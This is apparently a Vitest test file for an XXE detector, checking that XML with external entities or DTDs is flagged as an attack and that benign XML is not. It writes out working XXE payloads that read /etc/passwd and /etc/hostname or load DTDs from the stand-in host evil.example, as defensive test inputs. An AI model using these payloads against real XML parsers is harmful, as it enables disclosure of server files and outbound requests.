import { describe, expect, it } from 'vitest';
import { xxe, externalDeclaration } from '../../../src/detectors/xxe.js';
import type { UserInput } from '../../../src/events.js';

const body = (value: string): UserInput => ({ source: 'body', path: 'body', value });
const judge = (xml: string, externalEntities = true) => xxe.detect({ kind: 'xml', op: 'libxmljs2.parseXml', xml, externalEntities }, [body(xml)]).map((f) => `${f.kind}:${f.reason}`);

describe('xxe', () => {
  it.each([
    ['<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>', 'external-entity'],
    ["<!DOCTYPE r [<!ENTITY % p SYSTEM 'http://evil.example/p.dtd'> %p;]><r/>", 'external-entity'],
    ['<!DOCTYPE r [<!ENTITY x PUBLIC "-//x//EN" "file:///etc/hostname">]><r>&x;</r>', 'external-entity'],
    ['<!DOCTYPE r SYSTEM "http://evil.example/x.dtd"><r/>', 'external-dtd'],
  ])('%s is an attack (%s) when externals are resolved', (xml, reason) => {
    expect(judge(xml)).toEqual([`attack:${reason}`]);
    expect(judge(xml, false)).toEqual([]);
  });

  it.each(['<r>plain</r>', '<!DOCTYPE r [<!ENTITY co "ACME">]><r>&co;</r>', '<!-- SYSTEM --><r>PUBLIC</r>', '<!DOCTYPE html><p>SYSTEM</p>'])('%s is not', (xml) => {
    expect(judge(xml)).toEqual([]);
  });

  it('an external entity the app declared itself is not the client’s', () => {
    const xml = '<!DOCTYPE r [<!ENTITY terms SYSTEM "file:///srv/app/terms.xml">]><r><name>alice</name>&terms;</r>';
    expect(xxe.detect({ kind: 'xml', op: 'libxmljs2.parseXml', xml, externalEntities: true }, [body('alice')])).toEqual([]);
  });

  it('scans declarations linearly', () => {
    expect(externalDeclaration('<!ENTITY a "x"><!ENTITY b SYSTEM "y">')?.start).toBe(15);
    expect(externalDeclaration('<!'.repeat(50_000))).toBeUndefined();
  });
});
